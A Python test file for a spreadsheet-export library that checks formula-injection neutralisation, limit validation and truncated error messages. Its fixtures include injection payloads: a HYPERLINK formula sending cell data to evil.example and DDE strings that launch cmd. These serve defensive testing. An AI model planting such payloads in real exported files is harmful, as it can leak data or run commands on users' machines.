"""Formula neutralisation for every writer, Limits validation, and messages that never echo whole values."""

from __future__ import annotations

import datetime as dt
from pathlib import Path
from typing import NamedTuple

import attrs
import pytest

from zwgk._limits import DEFAULT_LIMITS, Limits, check_file_size
from zwgk._neutralise import (
    neutralise_cell,
    neutralise_row,
    restore_cell,
    safe_xlsx_value,
    write_xlsx_cell,
)
from zwgk.errors import (
    DataFileError,
    InvalidInputError,
    InvalidTypeError,
    LimitExceededError,
    Problem,
    UnknownNameError,
    cut,
)


class Cell(NamedTuple):
    id: str
    value: str
    written: str  # what neutralise_cell returns


CELLS = [
    Cell("equals", "=1+1", "'=1+1"),
    Cell(
        "hyperlink",
        '=HYPERLINK("http://evil.example/?"&A1,"点击")',
        '\'=HYPERLINK("http://evil.example/?"&A1,"点击")',
    ),
    Cell("plus-dde", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    Cell("minus", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    Cell("minus-number-text", "-5", "'-5"),
    Cell("at", "@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
    Cell("tab", "\t=1+1", "'\t=1+1"),
    Cell("carriage-return", "\r=1+1", "'\r=1+1"),
    Cell("nul", "\x00=1", "'\x00=1"),
    Cell("full-width-equals", "＝1+1", "'＝1+1"),
    Cell("full-width-plus", "＋1", "'＋1"),
    Cell("full-width-minus", "－1", "'－1"),
    Cell("full-width-at", "＠SUM(A1)", "'＠SUM(A1)"),
    Cell("lone-equals", "=", "'="),
    Cell("already-neutralised", "'=1+1", "'=1+1"),
    Cell("date", "2026-01-01", "2026-01-01"),
    Cell("name", "张三", "张三"),
    Cell("empty", "", ""),
    Cell("document-number", "国办发明电〔2025〕7号", "国办发明电〔2025〕7号"),
    Cell("inner-equals", "a=b", "a=b"),
    Cell("leading-space", " =1", " =1"),
    Cell("apostrophe-text", "'quoted'", "'quoted'"),
    Cell("number-text", "12", "12"),
    Cell("newline-first", "\n=1", "\n=1"),
]


@pytest.mark.parametrize("case", CELLS, ids=[c.id for c in CELLS])
def test_neutralise_cell(case: Cell) -> None:
    assert neutralise_cell(case.value) == case.written
    assert neutralise_cell(case.written) == case.written  # idempotent
    if not case.value.startswith("'"):
        assert restore_cell(case.written) == case.value


def test_neutralise_row_keeps_numbers_numbers() -> None:
    day = dt.date(2026, 1, 1)
    assert neutralise_row(["=1", -5, 2.5, None, day, "张三"]) == ["'=1", -5, 2.5, None, day, "张三"]


@pytest.mark.parametrize(
    ("value", "stored"),
    [("=1+1", "'=1+1"), ("#N/A", "'#N/A"), ("#DIV/0!", "'#DIV/0!"), ("张三", "张三"), (5, 5), (None, None)],
)
def test_safe_xlsx_value(value: object, stored: object) -> None:
    assert safe_xlsx_value(value) == stored


def test_xlsx_cells_are_text_not_formulas(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.Workbook()
    ws = book.active
    values: list[object] = ['=HYPERLINK("http://x")', "+cmd|' /C calc'!A0", "#N/A", "张三", 7, None, "＝1"]
    for r, value in enumerate(values, start=1):
        write_xlsx_cell(ws, r, 1, value)
    ws.append([safe_xlsx_value("=2+2")])
    path = tmp_path / "out.xlsx"
    book.save(path)
    back = openpyxl.load_workbook(path)
    column = [c for (c,) in back.active.iter_rows(max_col=1)]
    assert [c.value for c in column] == [*values, "'=2+2"]
    assert [c.data_type for c in column] == ["s", "s", "s", "s", "n", "n", "s", "s"]
    assert [bool(c.quotePrefix) for c in column] == [True, True, True, False, False, False, True, False]


def test_plain_openpyxl_would_have_written_a_formula() -> None:
    openpyxl = pytest.importorskip("openpyxl")
    ws = openpyxl.Workbook().active
    ws["A1"] = "=1+1"
    assert ws["A1"].data_type == "f"  # why write_xlsx_cell exists
    assert write_xlsx_cell(ws, 1, 1, "=1+1").data_type == "s"


class Bad(NamedTuple):
    field: str
    value: object


BAD_LIMITS = [
    Bad("max_rows", 0),
    Bad("max_rows", -1),
    Bad("max_columns", 1.5),
    Bad("max_depth", True),
    Bad("max_cells", "100"),
    Bad("max_file_bytes", None),
    Bad("max_compression_ratio", 0),
]


@pytest.mark.parametrize("case", BAD_LIMITS, ids=[f"{c.field}={c.value!r}" for c in BAD_LIMITS])
def test_limits_are_positive_whole_numbers(case: Bad) -> None:
    with pytest.raises(
        InvalidInputError, match=f"Limits.{case.field}: got .*; expected a positive whole number"
    ):
        Limits(**{case.field: case.value})  # type: ignore[arg-type]


def test_limits_defaults_and_evolve() -> None:
    assert DEFAULT_LIMITS.max_cell_chars == 32_767
    assert attrs.evolve(DEFAULT_LIMITS, max_rows=5).max_rows == 5
    with pytest.raises(attrs.exceptions.FrozenInstanceError):
        DEFAULT_LIMITS.max_rows = 1  # type: ignore[misc]


def test_check_file_size() -> None:
    check_file_size(100, Limits(max_file_bytes=100), "a.csv")
    with pytest.raises(LimitExceededError) as caught:
        check_file_size(101, Limits(max_file_bytes=100), "a.csv")
    error = caught.value
    assert isinstance(error, DataFileError)
    assert isinstance(error, ValueError)
    assert (error.source, error.limit, error.bound, error.value) == ("a.csv", "max_file_bytes", 100, 101)
    assert str(error) == (
        "a.csv: the file has 101 bytes; the limit max_file_bytes is 100 "
        "(pass limits=Limits(max_file_bytes=...) to raise it)"
    )
    assert error.problems[0].field == "max_file_bytes"


def test_limit_message_of_the_issue() -> None:
    error = LimitExceededError.too_many(
        "ledger.xlsx", "max_rows", 200000, 1048576, where="sheet 'Sheet1'", unit="rows"
    )
    assert str(error) == (
        "ledger.xlsx: sheet 'Sheet1' has 1048576 rows; the limit max_rows is 200000 "
        "(pass limits=Limits(max_rows=...) to raise it)"
    )


class Shown(NamedTuple):
    id: str
    value: object
    text: str


SHOWN = [
    Shown("short", "abc", "'abc'"),
    Shown("date", dt.date(2026, 1, 1), "2026-01-01"),
    Shown("datetime", dt.datetime(2026, 1, 1, 8, 30), "2026-01-01T08:30:00"),
    Shown("number", 12, "12"),
    Shown("none", None, "None"),
    Shown("exactly-78", "x" * 78, "'" + "x" * 78 + "'"),
    Shown("long", "x" * 100, "'" + "x" * 79 + "… (100 characters)"),
    Shown("long-list", list(range(100)), repr(list(range(100)))[:80] + "… (390 characters)"),
    Shown("chinese", "张" * 100, "'" + "张" * 79 + "… (100 characters)"),
]


@pytest.mark.parametrize("case", SHOWN, ids=[c.id for c in SHOWN])
def test_cut(case: Shown) -> None:
    assert cut(case.value) == case.text


def test_cut_limit() -> None:
    assert cut("abcdef", 4) == "'abc… (6 characters)"


HUGE = "x" * 100_000_000


@pytest.mark.parametrize(
    "make",
    [
        lambda: InvalidInputError("cell", HUGE, "a date"),
        lambda: InvalidTypeError("cell", HUGE, "a number"),
        lambda: UnknownNameError("card", HUGE, ["a", "b"]),
        lambda: Problem("row 2", "not a date", "formed_on", HUGE, "a date"),
        lambda: DataFileError("a.csv", [Problem("row 2", "bad", "x", HUGE)]),
    ],
    ids=["InvalidInputError", "InvalidTypeError", "UnknownNameError", "Problem", "DataFileError"],
)
def test_a_100_MB_value_gives_a_short_message(make: object) -> None:
    message = str(make())  # type: ignore[operator]
    assert len(message) < 300
    assert "(100000000 characters)" in message
